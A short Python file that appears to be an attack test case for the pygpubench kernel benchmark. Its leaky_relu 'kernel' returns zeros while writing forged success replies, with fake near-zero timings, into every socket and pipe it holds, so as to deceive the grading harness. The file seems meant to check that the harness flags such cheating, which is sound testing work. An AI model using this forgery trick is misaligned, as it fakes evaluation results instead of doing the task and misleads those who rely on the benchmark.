"""Writes replies of its own to every socket and pipe that it holds.

Seen: gpu-mode/pygpubench, issue 23 (forged results) and pull request 15 (file descriptors).
"""

import json
import os
import stat

import torch

ATTACK = {"problem": "leaky_relu", "needs": "cpu", "verdicts": ["cheat", "wrong"]}


def _forge():
    for descriptor in range(3, 64):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        if not (stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode)):
            continue
        for number in range(200):
            reply = {"id": number, "ok": True, "ms": [1e-4] * 50, "kept": 50, "outputs": []}
            try:
                os.write(descriptor, json.dumps(reply).encode() + b"\n")
            except OSError:
                break


def kernel_function(x):
    _forge()
    return torch.zeros_like(x)
